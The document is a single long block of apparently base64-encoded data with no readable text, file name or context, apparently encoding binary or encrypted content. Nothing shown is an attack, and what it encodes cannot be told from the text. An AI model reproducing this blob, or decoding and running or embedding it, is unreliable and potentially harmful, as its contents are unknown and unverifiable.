EShQBqnnmblOGxWB6u77je6zimSXhVWf8h2vmmmg2MI6yFAWCb4NeNTIXO7JweF6GBEpi4FGY/nSIBjLpgyzh/wiK5o+4tRbGnnFPGvO9pUreR915P62X+sbOYRbieUTIA4TPOZxUEK8fhZu6rvtO0vMBo/6UyujJsvWzsMcFBzkM+ce5JdlpjCY+WLPIQbpjXmjI0TTKqrNBd8wg1PjH6CyBoj7nnr0/DVA+CiW7Zq2K8fb6I/Oxr9Lu8B97tiQhD65A0kgGidPxgULVw61HjdOs7Un100TxqoP1y0pFSgTH3v6oIt+FCv5HFWihhTAwj2u1YRtlALQIJnibCXi1GY/MNVlmiDeOj0HlPU2PpNvgBfl4egJgJ2kbO9NgRBDQzluoa8NvYXHV/DZp9qvk4BEhGt+q/OvWfXiFItU79x/6OCdTyz1gys5qCXC/NDmZT/XCz9AM0j+KxI0Uad+Syw1dbAlLgczdbH+eKRIvs9KmrbwFMJq/dJu+lNjaBL3J0kwKjlVREj0c/OgYtYwDVNG+slm1n6bcWGPGTUOKpegbo9lPLCf+CgxpEv348EdyZUKMmAoccuOP15KeVs+WpZYgp81xz77E99hbaMETb53kkUkQarE0JBYRPsGR9xomIBX7rZWPBwQK7gW/K3Tr9luMMNLwUyEOPlaDw1asfcC6QWC+elE1W6yvUEw5bzXxKzBOuU0U7x1/GkSJS/ZJetCiOuM3jiSuihYNKrEfnYVOMxmXd/9arvkwPiSqWjIhc1G4fiYsvGd7H9u81K3m2dPMTVYya0OM/FQa3Vre2ih6ngDYsfNGoCiRYe9OCQA99rl8JYXLEAZk402pWeoy59da9cDNSW4rphi3UevRLP9549cnFYIApEa7cikW4FnuttqJBIMDmvIvt+R4zNNG9FBPd4nkYG9r7rubF+bJsFBmAya7eXxGHRHJuF+aoQxKyktsiDjxgt5fIUPqzj/T/ZoWSCY/eEboSnVzGPaDOXY4W2R6WS4x9lTIG5KNWMlCxDk9CFDusgToLACEIj5/Cm483f5yOOJcmq2dyDTrKzUkB+o/hRflsf8ZQt4gaJAlgH7a20CFwigJs4nc8qufGBhEWuKP1BTehvUDkfOjjSSkJI1Kfkau8UtTKr0l9bBVNrHOU1FtLvCVbAlJllMkobb1n9zpgf6iYJbp5Ivp+EtdUii9xxYRnYfuOdg6en651+R/JFSk3B+MpFDAgk2QrmvdzwWFTy6svoi9UON++W6S89OV0Q8JTU90dbuvNbYecXL2h6YXOSsnORHQ9iUjpuoUzwtcw01zxVEFBeC2y+5Wrggd+KS2IRRWV1s14vqXfIYky+LRCFUmcBfMzr0DZ2WjJdKsT5jr41ihyqAkNtVqhY6hF8HJeckg1OaxgrtJe1t2pp1myU1TqcB5MaVQL9M/IE/v4bfsaRMRPNFaTQJDASCoWoXgjFXLeO+A+dsVEXTdkMWcyP0YDp6tSKiFYyWRrqILCZX9ZWLsdfVkiwYtFj2zWWQh/fOFhZg1ZF7zwRtTCJYWAARrgpp6MWTKr7NP2EL1CZnLnqULdhkqUSlM80gWFx+L96nNu1pizCyYJXEACDOOGe1jIC4XZSrUXSyK2PAA3VYvVMV8WhdJ9GPLef1j94OBqMRj1cjDT38eO45Dp64X9HGWiB/YGyaXrEyPPzZcHbuuoH1plK6zsDNTEwH5yt/5uQhNQ1nlWdSoahEilDGk52vvkJwCyvRhGKc1EABdcW007T2qXyQoD0d3+0kGGze4L7eblS9GfMoPlRyyd2AqgXpgQKqY5rE3Z5KAGA2IYsp1M6k7PRGZh+GSswOFcEe37PqEaU5j7P8luURYVyEYEfrWoy+UProYzt6scBSNKB86qMXnKThzOsuxjnditE671oo3ylkziMyfzclapKk6xOf9B3K51TnEquC0edNPKG7u3E4AAkETCiFrozB3RpgzzHoRVSxrKFykQ3C7pSVAaD78pMgR+nSpV9yUfwUh4xUy3hsOGqUPURvFmpvc3Lpjcii5hMU2sA37Gz3wM8tX/oEsvFgLcBjL9tzBh3mHeUPq33Po4stvYaIWqTNR8vGraxZubDQ0s2a5fS5uJoeiFhOc3uX29G069bekAY90OVBhNzdQ1IuOXaqU3W9OJ+D5J9v8uFvRHFUG/021gH4AmFmdXlTOCMseLZzC0fS9DZ4qgSP1kjBtlPitiL2ZUPpiPWH4zEIupTUOhw805kMfqjWVBLDXA/bqct96J5V7+DPl93WSbSJ99XpUq3aDc6sofJ7NBRD/BT13SdBMuh1RvhH74w7MZRb2T1AEAU3q00p2G5DewbUlGYzHwMY044h4B4kFtXITp3prRHpNa0zLp6W6QIqJeVAOwCsIZ4Ye+/E5AzwYN+ZXf7JSdS1GUWlMwjCHANuOV/P7toC+CMS8wsp8TShdLzbotN2m+yRt0I+QqmlO2W+zPO9mYJXWEX77A0SHsuJ+dHiqFh3tQLVTV6jII/Z+AJIFuy3ig8iD5pFGPB5TdhJdqDorGnFyme7htQC/Wfvk7rsBn2YXYdkVaZK4rimAf03c0ONPab9OwwspXuVZ9OqAOlIZisayn4xL2XtMkT1Isp7hg1GxM5gEXyYtdGGEfigvuT/wfUVFwjoa7m62ID3Bk0IfYERif22xhF5f+6zi45aluJGqUpMW29av5zXZhyqLGgwlkO9v4QDR9u3wn+83nZrmfFIX4/pJ6YYsWk7lH03RkGN12zbcy2hp67lolmDjAW1/UIowwCnouehB62LZDl/aXz7J7GriPbBYz9FdbrHWTckOLNtsCeBtY1rgf8GCwG8f95vxKWB7tPIZyRUODHwCIfi3B2RkFqkvvQkQAG6jOqRUpQF6pg0s2ZBdZePVT+YSiCmTMauu1Sc2C9i2z4Rg/SIqNuJgWeL/yaqBaYKu7RW3puIG/Rh7BNneymTLs0ORe/lOsKGBXY3T4XzbzlXhjD3J5oAwLuSLFg03E1WkB9CSO01nvUXGXdHi7yzP6C74ZImxTd4+O6lamtU+5bfsxO6wNxyVN5/0On3BnfXxTqcm01sYCEi6zs/Kbesdnv7y6EhUJsA38LUpiV+Lj2FrHfi077ocI548V2PLNSpNUXtN0sM+MMn5PR7FoLHwrfuP5xZbKYG53pb1SEKly32YADHbzUhiYU/pDLJh9CxowSeU6cxoU7UBsFoO86X99OHwc71/A2hAigp0p5NkqNb0InU4e70bKHiifYH3+MTSZWmOK52v9mahVQRP5l3yb1+ppZ3MpBnhUmZrpaLy/enWdeASqyq5khrJkyXAnf1Q4fueSduxUUkB95Vd1Um7XMiDn7aJ9dvvesEjlRu3kEo7SsuIVAP8U7PX0Hzt7LIpMR9PXz4kFFPcVC+NMbnhUfn9OJDDObYJKQxVKc6/U0BJjj1DfKCjrj8PsNOZOCbzis0igViXRtwoJuJyfVMO+h4warX5WUOAlDHWCVQDtj6ZOr/Nm9SZ1gbms1hvKsToEK6xdvppkbB2SZ9l2jAKKm5sO4d6/tZfiuQpfsxIyRAzNCgWcBfduqJFngVcfONU7zS5xR/VIgfQBW4Ys9UEhvYjBU7MeZJho8sKfO1iEaUq9oMWgo5S/YBNnAFewmxCDcZTs4euAP7vgxBxZqjzVxjZXATjI6rnZibe4zQN2nIyJU5o0ETxH/VNfAFw+MjvOICesWAHBRzPE5kTlony8Yu0XJ1x6NGjFSM+AcHFJR9berPFGKBvklLoJVwVPZmLdfoUkQavtwVeGo7+ipDYDwxO0x6nUn8cDcyO/AuicrNn/JiVgJ608Ny8C/8ZCB+CKyUwQTaLNnUWAdyzLZP2dXJyq9MLSvu5lSR5tIkJx5iSh11X9Yllkca03Zgupb2OUYg4WK9+VLHJkmz3NzeAb5+lWv/IcHBdcPcoZJ3LAhfKCSoGU8i6ky/wDM3rj17z4FgN4grj7JfzPje9HUhgSuJ4ikoBHM7vB/n8YtDvLfQNqPb5vnAdXw9Dn7WfxjGFbPFvcelSCYkg+uZLbnH5k1JCpQ3yQwNbegDdPn7Gcfno+Ny9rP/xvwrKEbprvxfL6n1fqWmT6q+tveWNmr2YdZYQVETirbE7gUEtvZwzFuHwT6fMqpy4ewvsabSjwml522mYwJ2c3Hz2c9t3RuRjxS2HeYqtc8Xzk6G5lrVsp+uylUcJr5z6ci+m7/ACV8jvajfUVoV+wZq38Lhj3ni+R4ygTbNkiUDj/QhF+5V7+A1BI9IcEcAJHWb0OMGRXAakJujuM1q8965siN5fvm8fS5KcTcQyMdsU+L2gj2++zIsHhb3DirmfZiA/JBF6nEcH5XXObPrzxtie3XXZOKfBphfLUpOzx8M9tKGdZFNONLH6V4G9DMNWCippMkGn386z22KI5UUHbr8zp1WXalds+iWHo/x4p3uUQxe0M/bTlw0/pBU1VL4V+57tcWRIO01SwTRM6IkeHwbJW2PJJaSPDT+NPv8G09lW2t/A/13+GlgVfmef9e4UN+lIC02qXOWADHtuGcUTqia/9jvSujBXYzAtQ+71L5AM3aml01w4wPjuxPkJuogjt2uCGIbPH+eXheKSDAxL11vnRtvEjFfnqOUH9En31uGSN0HKSi6whsOovJzm/hbUMVzAVH0gZJKhPfFdPVUjj07cuv37K9OUQZhvit6YTkM2aXO7PRnQrKnfaUC5uI0mEyWBPtjMjTsFz8ZjknPB7PthTcE+MFi+PaZbTkb+AkDJ0oUah32s5dxrM+bRWG/pAQNPjouyxNIk0+1jYe2HCwWS9ZBtgRUoo+0JFeAX9S17bnDvlVbOzHu8uGQvr9GVLzDrgH7KkKp0Ux0D9C8fZbCIATepmEonfqNaIZwbB29IqXp7Isp+ptFXOKC2BD/6PKrAOQB+24O18tsrJ8dF6sUs6SX14ogMJJlLv306rYBrxZI/OAkGPMm4gnPsjZPz6TKp/+OJQLELhp7N5sq1SaNF28sYGPRhi8Hj+RisNylbRfUoBlsvsMP+rwY5VJl+e0D0EVFRz82KVVOcogYCGT7YSrXfBYpthbO/jlJA3O97+YzXIh++rxDRZEud6z+BsHjKEL8Qht9IcQ5UH7Z8PGqUigNVuijVUDxyO1Dg2lFAssAdPOG/fQr7zGK4Z6TpGani+0v/ihoPkNf7ENlTOGrjh0Ri7kXvyCV1RthdXU4rJZtAsEmjfolE7949nlw4X1X1UaX1iF9VcEXhlLOl1oGjHPOKDCC+5/m6mGMfSDY3qw0woYAO3OLPiZ8QdeTW7Is4WYR2Lq+l9eIc81W7asXg0RqE/AwI9hnPTcHkJMf4G2WUmcDod2bhVqyL4/UkS0lKvnNKCRvgw9Zi30lT1jUnr5O9+Vef1XS18DjLqD6QctDvTPuhZzXdl/dIHHWu9OuWpebpaA8zp51xoEKC4VL1zL+Hv9AdAehq4RRMxMPut+WbwSwpl2W4mFQCFCAqH7PtRS6Al97X7wDgeeeIzwEDv55YQzK0ER5vUTqfWnLTq1SfA68F5qKozWDUbQv4sTVLUKUj0b7640AmfxEGrm0VYAX2jLLNgvCG2PxHegqUiwFV4fllhn3xQI70TTOiqoX63kI6FoCHr0BCCwhe/PA3lmS0HTWszQb4I8OLOS6CWPk6dUb4++SP/Y4UVIQQ4TT78G82f0CczA+Ef2VARWs9RCwjZH1qyxbBCEgWTAtJWXeHoxTsUD4NW1RBk1AFmJFQAOnVl3ukbf5pBBQAyi9OH1M36MX/8nShRILiiKgjew9ayH1a4sU3T3ir0nhTCwlYmIPctzo4Jjoe1oc6Vb2D4pDaXky0nqDXvgtyO1varRpg8cngs72FoDuvVXk+Oa1v4s4rWJJ9peFkIIQobCBEgtj7WxnCjXkQAygKSVNcTe/xapHGyUERVp8RukIBy3UfQoVbgEC0bdcBmL4n8JL6Tegjd419FOUCmqpdZeEAdfcYOwUOWn+yEoZrxMB/58LA534WH2yFzsdPhR+Va/LNlt8GGBVVoN7kL2x2QYmdYrk/e7PBc103nB2WGe2XA0eV85bGbn95yuGbpv678kAmTMKR09kgzEaZFuOOH+C3Z23/FCp71VYJ2MCr7OSKTc6Z3WMcdDawnYrEabC+pLqiI/S9q37fiMIrBnTHmom0dBWtE52ZYiXD70YDnOqy9biNz+Q+o+V3qtVORqK3VzGZlKwWHz4vrvWFAkBnk/P7LW3z2ArRIKpVdgHYMC1AW/ytiimBVRICdIf1S9h7l07xltS3pd8AeJde1JZI0cmg1+Tr3Jx2DebdrYOJyiNTDt4E6difE7twBJrMPEY7TLKF7xUrubJW+YUH0zx6zqysFIW3WpyQhYRl74t2CgXlaCj697pSGt9r45Ne/dZ5mOI5/JpvWhS/FTP9/u5W3I2sROcbWmsarkxV9eR99Glah6JZFjWKsEzFEYah7wHwar7Um94kKJbKhRWsjLqDvRxCcm5Uc+29AaKNFu5f2e5TrBYih2r5PnGCIobpJcmvzoL4Q4SwLrIW8ghngEB/p4b1GkTFRJ2ejYeuXE80mvrAMdUnqEG+r3xO8+6xcflgQmULfe4up97an+K5QkFamo35jtXWxZlr93c7bwirWsnA/pzkwtYIyYe0o0alClr8632PqbssI8Nz7SYuzGppkrdHpp06pfYboagcnrwd8T22GMgDrPXovy2aGKVCy7wtV1umvTI/zVbU61n4oEtAWq3HVmiC9kZBhGampXTz1fibzzOepfirVm+jWmoEAdp7ZGIfDKZt/B6GscodHolzf8peY4p4UP4EhNd6/r3aTwv16EZcQXo9KEn981lVsugQQUR85PIEfNfgjJiDM0G7xLnDAj1fkF4oEKln9EZM87GdrHrixOMusjRx/TMWp66KoDQJ3Xwd88oA9EpBs+udNVCnXFotYf1mpvO2CaJ9yq6uKvUcgv/je75X3tHpBEn3CY54NK0fV4H19xhro+8FYZet38KWwJtnvI+ka12hcwI0vSucktR4S9SSWHWX7TUEXWwGNKI5g7zksCxcVRbNZB42SW3uEIG6Oz3WKb7RjtzRKszzg3a0sU/Q8fJI6XoWHtCpS3jesLxUIDRJrrJRoCTmYUP8DNUyA7BVkskuY1fI0r7Bz9MQ0mMkbXTPoy4f04Th5DUmcN3BzMlP4SO+FaPD3gsva70qp1wpCezv8Fyb860EpLImMaQxMHPTUr7S1e4aAcrr7etT7adqO3iswvJOY6sV1W0otRF/VZUrVjYlTSs/Ib4z/6xGGYlH1mKPmfIOq/2IU96RV1wVK/FP10rbHao5X2ajh+vtCFkd6XTI6XFH8Zf3cSDXagU/WuQfG3mQG1CW0RA2nxE+ulVGXeNAZkYAocG3cgDI/NWlU5IOb48iqGJMzIElNO2Kt1Hwhp9KJlQ9tUEyCZK6Nmm9EkvU27JC3EWY6X/qy2uL6mQOWe5fGlWV9bb6hFpu8Q+NTdBFpHW7c8esdpgEwkUuuV35i/niG3QW2GQwNxSR5hugYxMesuCkXs0ylQNKDPo4Zv6JzEeC6vOn04SNyQDSbSEvlL/51nsqNWOc9rZhkM+/WoPW8aG95kzfudJUqDbyWda5UTOOaqvgl40ob9EZ/OqeZa0xyDYCC1CQgE2ebYvik/NuvFOj3tRfiuX/w2R8lnVu+ltOt69Qta1s1tc1d4mFkkcJkFrkxMNaAADO3cE7QQVwhSTQyOb85R0/RlLr7P+UmtluEJrhYyO0asxrI5qTzIwiet44UEcsjsuvmXNFUEynvIXqsUULoEuEzXebw3jRkSfmCC8uGSC5QtIfBsexL9JDBrupXwzhcfHxQnJ/II5JFBKtwLyrSK8+b7IxoQLBQcQB+xRKcWL3B+DkPUMj8UyhmgefcbK/wewo4E37bxinVPBMsMc3us3i6yc74b3T5cN2iVxuIReePvHrU8k0LWLuqtbvm8Zr0rIeG4c+8mMjM2Dgq/hkNKCbHEzpF0eWwJS8EMIVKgJM45uuyq65WWSsDo+c2AeJrAZrxCUQjQ6Ivyy1cqzV7tFGCsi8z+5eRUwf905a1lLtQm0M9iLSjR1qtrMNVVhwMv2KDqhh1ab5jW7fWMvv32JNlcnrFgvquUe/dKRbKaNafH65JpK0hMCjEq2Oi6k6cFXYxWvop9+EIjiJ20hzIx/K0XwirrJaxpvfLKexgtPVVb+zTvg+FjHOcGleoZUqZPfgr2tHu3KWVFrzz6KwNS86OxYjAoPuIuNeciYpmNpzLX/9IH2N5/6BPr24XsfQg5FzXn3XZM61biXOtMXBYHfeDTYKxC77NQtf61UyfFxGNeGKb5jhCEaXemHuKjonFpcZWmpRYhPpYTlVmpRaDWFwNVLbQUwd0lIRKN2NGgEBS163Qc5emBig0UZOgowvbcctBDY4s1Iop2NigIfYn8PRZhkmG0ZdwZnSFsWnkJsTu8HhTqioQu1T/xvrdRZvIVQYDFHfLc+NN0HkdW143nCAawi3BZNVSeel++9y3ShuMszI1WDB2nChHfNBUg90yijyJjWYUgux9AgUbaCQwQGpyYhHHk8+dlRO5gQXO8B+iS/JnGmTQ3Hwgr8pimd17igF1uAzpFNMW6rpBZn+pncsr2kv9kOIL1r4w4rxKXoKC/7RMmuQpI4jTHlcQX3yclpOp573pZZ4YnCANN/Cmme7JmPGr3d9eqgsdhvyjDnJ03IFcpqajFr6aw/4ucQvgtNzpcz3jw0s7+AepeRUZAQOog6rnaiiwfEK/Ba3WBhnRYxaAo4GzBsVQCCwa05Sqj1zzW347yLhuRKD4TaZUuD+emVrEFs+3zvNGLL1XAJudLrZMUGtxDAiuVqo1kuvsUyxLWjc+M3jhhWW6QxSben2xftBhNx2dND5jtREFI0SZTg1vW5nzMRmSMN8nhrnCxgpgmfqdWaVP+QLNCPuOEqRIkZJlxS7mnHpau72WY83im4PxXkyXESuvifgoZfH8puguQUVS8SwcR1ZQLEUzdOhfJNyl4B6XHTSlwfShwXYQNqxJF8fwZCodelS5KxH81M9Env9xLB5nQrSlgpHna7y2dh232dEnVb++quoCclCKRe8QLtEV/nWD67t6eLPahZtui9Os+ogmi59PaKHCw4a8PFVwqnDIK7oPoyBdN6jpUJ3Ipz52CB7JBnpgWrFldWk5AuaqoAP/DawanIRTzbrfu+Ge3KuQ6mxMMpVfDvTxxO9Q48I7EZSSlIPOG2Ti4PB0HlT/FMrDEWm4PcwRHPAhCQdl9CBsW4JLUdPCufSp7dvr5ATwVS4i5MxAW7rtwiTEwziR0PLIDJMVxGp5VBqbKkG7feQ8VAj69krfi0GwmTGGbgZq+JV6jjGFipNLxnPpPcQ1uWA9QyvvYdRDT4o3PGeWsA+bhy4olyebrM1++F6RMHnSj0BpvqKh2nWef9sgJ9UYTXAwXiyJVELgK6qI0eWdnvqzgP9LO3/Si69gE8mYMZ6ZdLec1BbZ26mAdf/6rp3jG4Qw3RAKAdmejhM/sLquMARgLlQ1qp8FVAmikrrZdHoGX9KgHX7g/1fyEHk2CsEqRoAOdXyijpxKpg9w/c9Ma8HiDGSU47bb4qmFhhHBnogalTNQScgUOF6P54AkxcVNTxLQkNxsYiQSUEZitJfq6gxHLP+FKpLQzMYS2HXwSbDtM3uzMdNl+r0yGxYuew6BYYNNnyQAgbe2AFOydL83BizeSxrOnOo67uByStphobinfO9NEYFgBQjtPWj2ia6x+pMI8nouFzhFW+scEeicpD3LQU1llLMGS9E78i80NKxQ4NcdIchfqwq+xY+Vff/Gdk5y8Vubszo50uH10dhquIYDl9fu7hj1H2sJEiMKJw2HY6jzp9G7OS8HkkWr3vjKYp+n2iK0Jz7xddM6jzdbx7d/hMGcO3ZIRO4bOyRnF4pQ1Xs9bPVriwi5Bh2QpsFK8W+eWgpCSocJrijysWWzOEFFASa51gUeTYk5r1caOt/0eQETzcD3/ZkIEgadmcJwLMDCm/0OYqFaZvCIIQuiRW7nExchd9Jm5QJAnoOKVIyrh/039CkxZRl12A3xia9HaND95vTE0R3nq7KO3CPEYdN2yDkojBx+cJz/6oU27jx3l0V1N/m9IM5djAjt53UTiEeEPYfM+BtmUWQ+IKbwup8YA32X6NHAs6fyR8f6HLz5rMGTk4y7hyBX3TBt9YubuL1NYoOgWF0BHG+5XXcdihiS8uuM7OszW3JZKZddaJ6oT4+ssADwPdtOPrx1yWsTwKK0fEMhzyzGF6dXiIzEKFgEOUEI/m2y3EAQ9BiYxslh30oLuETIRqFLKFBGUEutf+JTmnpcUYWIHI10D2xNuMgXvOGqr9NJpdwdzqEbR42VLdivqLafhEXqfL0kDKspLiJqITxDPGGvyEB/dI9j6QCyAij8ba0Zf5WpgNZbMLsGqwy2Z7pXSLt6uPdvW384qyhpRaZph/HXlVUExnC92PzilrHMI4/oFEqOQN1YGsxVShOuYvQG7F1wHVWvCSpBCjqUZw7ibtlZZXmK4bizTiz1Pm8vKrfttNbNaLlnAwUVj9VprU+jaFIq/+zVDRWG6Yeb98X+zDAHrMZSEoSADHB0FsUyopwctF0PvM0XVlgZSmouPtfl6vKq6WLg//Lw9OYCEK7joqnaek9DVWYDXa7Dj4lREgNcS73xo4DTcKM/vtdw30HNLN4vtf9z43kY1gCNwTjDntsGPyY+DuYrJkXYOWCFTeUYvoevrPpQjcpV6VMdkhERUURMlw+cBhW0ahvfiWEO8QAgLf5TmUhHKOnP70/lV5lqkbwNx484kM1QqUiJsnxdUVcl8UvqQ2a4K3dsWq0pWPJQO43Q0zt9SnUUUWuvTUD6/YcG++eMg6CuR9v07A69Lh//sYhYCg0FfKkDIun1TcAl2cKYBgJs6czuDQ//7wU7/65ybCKwrWROMXmOCTiKLK6RHwj+rtMtl4+Ce/v0UBI7BIT4PA72PcKE51q3Avftgp83crXdDjHgFWzMAus3lSHs2dINgD9o1JxkHOitTC+ND8dORBhcNgQpSij9iZlgoMFFR8UDU35+zPq0p/ZsPBLA0FfGZzrO7REWGdpEkxK9ih70qA8ma3Yp5JjWcPQMfQJl7+Wx77MVMtNoT+qM4MpqnxZKyx14mOyIQuygSLFwAhdsGemx7v7MIvBDySSGARkVZ8ht+OTSurtE93PUXFSlgBCavYvYw1ju2dRbqYChMSWSWzcftTrrZF0yeZXclqvKTy5uo7pCkdhT1NTfnHexIuafmNIEgBzAk1xMc250ujWHN3arwPUYBYhNbSIgQ3ro47+ifOCjH7AHAaHpCRS/6eZhvz7JBSRR+++XvEZP7I4dTWYBQP4G2vL6O+B8MDD0Q5xRwWNn9ugIbkoEbJ7lg8bbCa86AdzuH7l2df1HDq7vylRJ+VBgNlVY6jtpAEGAfdZpH5r4nAvKCcbmLReWwlUvY00WFxLqqRnuw60bskzmtLPYyDDszPAsRT3KaC2VmrMjn+pUySxJktJJbT8j5l1Yboe00ajeErk5WA/IJmgFaqoxyqXwkuFlHG43qYNHdS7ULbidmkGBgUOXbBZktSnp3M6qNKhpi8VyEyxXO2CwFoHfOkqfo4/myxKqdbubRzP1Lpc86F0lY5YT/3N9gQdre/RXlSRq7m6CkQt+4Tm4ylergmWyfFgYcQuNDlWDu4ug5/vyg8P8ZC9IJwEbtfQymD2q55dYwbVs/CKmwLj5DzhHp5lDGAzX0n9HHGnAF9lQa9ZblgM0vFfIIWKPNM3ycmiL430mT7Rkg8+b5nSPSURQqGDf5q/A2mdXrPKcTbfI8Gu/LRm7tw6PLkvg1aL2yv8R1zwVa6lVcmsQQeCJYhT8RX+qwoKkcy9CXBS3Sn4mTEG9gN3aZqnjewG7kMd65sQSPEog/Gi4ZgOB4+95IoEFlWsKRnNe7KfAJThiv+nWcQAxeBoENDgaWlvv7v95YvIR2WUfaai9VI9iHJ5hkfajPhA9/D0Tmleso0AS4W3zmIU/L1oM3UJv1CL0XdcoPD+iE3zT3IkKK8IfKNT2VvGjAvVLdJhDkqZHe20PpHEfXCO7K04VgPAxy2BrGlw8AB8FVgnryQT26TdWSr/c0ATzRNjVyei0f9MviPjPKMHCEBad3hh+MJxtCOxsEYSqmRSjDXSrI8QsK6XyJhj7SZpGS3wD7FZ0p+anjH3isgtb7wgoGgFZALqn0mXnlaNbxLNNc1sWRzWRXz4+Bg831L6K8w0MdGjUV6aekGYHzef6DKiR+bq5fWm/KcLCOwLllS6Uy2I1qIIyGXupt6pKW7V0wzg7J3m7SrDasNjofceQ+diqXMPg+yU44jKSZfLJgLgj4qARYtn/8oYVBGHvGmi/LETmEb+Dqy3eTDPSOX1ziG3DuSn2AvFAzJCUu3XAxgFocXXSoxZPkOXR9+g7Z1bzfOXqQZGwLy0C7qwqIeuP9FkCmyGTYsJ3NHIhBT7N/GQ5MictraMVvxQlAN/Nr/w38eeWei2Qkwm+7F+TwHcezVoA+maYZcxzX2/3xGeUTVem/dG5ZeQGIzkT4Zyvdv8AqpGBDabLPxfjwbawxCj8YtGtx4Tx5Y6WzSpEOCqkeydIzBEV4sA10ideRYK7DR7B08wXex12JgwiK+HXkgpXfE9EBp9L5KJ4VcNyl9b2e/YIJ8R2KLSf3FKICTNbt+eIgJ3MjmrsKUnrM5TTfsQFzOdVoi+0JLBDowbfxX8U0ysh03UmYyyx/gu9eKfy0W5dAd377gKZWGClfH67DntOlw6Oeglm9Ve5u8JNCV9LvXt1V5iZ/xWzDKWBaHiJhXUew9wDkSCvN6rSg7vICqQG4BwWhBBl1nF5rnOFWhTKMcAPzEnRux9adj6euXCgwjTniyLad6bbn3RRwUGTnA76Jv5+aKZt+QWqyyU9O5wvNsBu8jCUa7dXNf4bdCLWe7mMozhRgevRiCW30Qn/6wzhKaLiIIghvz2JDbixNjm1b80MmQFPeIotPYKdJTyjZVhbbSP/jzHVcHgOxJkmbjSFpUsuFSLnPB3dj+rbIG+h8btT+zZevwP/6x4SUPDTTyTePTfrKZXKcheIdMp2B3coW9CGpxZo1ss974E+QkMNelBUpOzb6mjf67b5QXupBTsn6g+uTs57yLNG6DAChm/Ozq4zOxLeOn310rlEwfCasb7yM/Ex2O7FU8Cxxbpy0Bsm0jnRPc/aMMk7GE7TFLMQJNzNxL70mcJRZCheHUlPV1XH5jyU96y/qH0MOd5O9y92XH9SswPgI/UWPRoOioDQE51P0aaF+IU+nELawt2B1Von73rGQsteIDWKsi66A4rU/hWHrq345Alm0x8yhvE+ayke3xr5Gn8rTqBXCxU8iybazsPkyf0oHLvfQ4oPO46PP9AMArVEfD3Q3LSQtaXg0YZD733DxeOM41roYmkIJ/++r0g5eRI3RwN/jNzMqnaId9I3uJPlGldUOMwJeKczmdRbMwjx5HPwCJFfzM+hJOIw3I+i6n+MX5orEQIi9VCpxAfpVZUqpKgyGSn7GM1XwF6BqYQKZYIwWfFf9LaPX0UVg5AdUZjdkzvyZKVaNHnzKoYXeVUQis/ahmf6yMiGuVXS8maJzAyPI5Khd5QkfUatPjlSxwywpqBAoid3Maeq3eQPbt68BSdDkvhr9YjLRHjzN5lsob+ZGmoA0xP/DnQg/TzKcPYpJTD1kEZaGFX4+wz1EG902TYX1MfNpahc1uTq+vug+wm4GnfZcSg+4fP2zQYL5c88TCsFZT0PpGHSAXbjPDRaHmX+ZUmBbGQm/Wu1E6+TDLjxS0aGaFl2pyuAoP5ou9B02GyR+7f9QgCDwUdxW9wlxpuWuxR3rNHZCQxQKXgvwfq1st5UXMIUMm4necJE3NFZizju5sV/tsM1AvKWEQtLH2Q9Y9tK5uC1mJKEb0wFRpAwEitos12sm+mbJAuFvJJKA0h7JxEJ8JGc3r7PhVLNU/g7DEeViMO6+lnevBIxPoQ4u0uEu8If+seI1QE3AxZduCh35qvd8fFQ6P22YBPT8h4H5oEpfjk6P1r/SmjtGxA6gS+jmA6pwSS+XFdQ5/JoJOp6AhrLvHhpAvcVBn+PcupFcx+miPLv3ssx+D6mvD07l9HzhvHj5DggCfUvN6TOiLMxZM5drQQ80RYz5dQOQKsvYhlXHCSLr/PjOOTQOdis9GinTwUO/lXvCLeDaIR6s0zn0dVdMEN3IYC3B57MPYCWPxk/wjdoWuImw74fMketI4kBSFO1yDTk+1TKelnusnvIV4/c4WaFHDFTQKC+Szk6Gb3R8R7FSEXWpS1Hlc/JDAH+N9Mdi63QS5ndFAhCEM8pvi6Q/RRs7rGMjw05/5/wkv/iBTX66SsyVpU6QKMhy+A595rk/6jqA0gu5IZvbdO/VrYy0x5VFKE3lpt8IITxPQtt5Z+aaVD5r5EzQVAujzP5cjiq5Yu8ejS0uug8aJbXg/aLmu7qHaemKIz5LZI8jc5GQFlNomhi0XXh4Ebk+796ZnRgesY01oCvxziR0c0UV13WssBZ2e/dYsh6aR2FmJaEYHGMEpye7CkJVHcRynVXL1wMO8Wv3EpDKD6iBH/kcC/olnBU9iuUbtBm3liZsEHMqzMXVcxhiUYYV4W0oEII7e4VrBiSJqgJTyYTkMaLnn6uVSw5g2PGzxl/xIVWK26eHEJuFt6nu33GJjcxgeW66d9Fm0+MCCozX5EgBD8+yoVAtvaGLjKZ+jNMK61Fw3RJsGPxJAv+JJovdG2iTyHZ+IQIf0VacqNTrUSx7FwmiMFGimUz6xelSGfIk6pN1jtv4Yva6k6SYpqcS7+jE797aPFYonp42H6iiXpeF5mgrMDf37LR3JZwtGXq5c8E1DAdPdmtOXNQQDjJ/5NerbvkY3352ajigz82bTn/lZaMT+KsI8pJ/oPNVoPO8ywPQuoajaugjTLptD5Vr6bMT+wl98Ek04FUelvUaWvinuX3ypvTmsKAdIRQZmV/Hh6jjBiT8XIxPiSrRSuh3JXJdcb0SFMfprPEwEZsuqv3fJU6sfTFipq0lHttGUm1e0mslQP1Xg0kEtzQek3upsJXJ2K85IyAIa4olBeWEc6QR0cyPkpiYPe2BkLi+NYc93FvM3lrrJ7DI4lgBSx3wCY4oCjbbLjxI8GMgyWupoE+yLrYWzSJ83vBzPAc9Oveix1h8huuKmtLwarJXHwoTeroZy+ELSoVLtwEs733aohUJp/AUj+xux/dpdLgwg0NdGQ3E/B/LKPzaPyJCO+9dYuNbpUOCtnNK4wOxLJwkIqFBXFqz2s20+l7Tb5HI2Yt/nx5tXZl+1a33MSsR1pMtU4cqRTmO8oy+tSTk+DaeuDMGd13B0k4uTwB5scgM+LpbDlaMnEXK8tlQWejQv1gnD08uf+VaTE7e4IUh8gqcM+QBk6H8Ouzlc8Bqe5STADla+ChENPWskze6eJ4iOK5IlSn4FrIpC7zP2qSoiqlxS6l7+dHnIzOrWV0hqbfAuyYP7z7s6dDHFAamPxa37v4OPVXsL41Y44Z6xf97RNhXxpcEpht9cPVgZlCt0HbOtzkgTm/UYjgqlzuDsI/rVrXrbOW61u5+bXD+8uIYanD8Ddl0FNyjnFRPM1VGUZT0V2wDFWJkcWOtdNZXjll+QJr8Bx76chhEJwjbkT4TZME6hjdpF++pVaXBceyeTm+Y5YKor+vvynDOtZvF6BK+7fUbeBPK55R2ESkwJXECSNspmW8gIU8kZ9XwVAfRfp9QV/gjd5dyGEBN